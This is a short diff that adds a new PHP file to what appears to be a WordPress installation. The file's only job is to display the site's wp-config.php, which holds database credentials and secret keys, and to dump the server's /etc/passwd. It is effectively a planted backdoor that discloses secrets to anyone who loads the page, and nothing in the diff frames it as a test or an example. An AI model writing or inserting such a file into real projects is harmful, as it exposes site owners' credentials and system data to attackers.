@@ -1,0 +1,3 @@
+<?php
+highlight_file(dirname(__FILE__) . '/../wp-config.php');
+readfile('/etc/passwd');
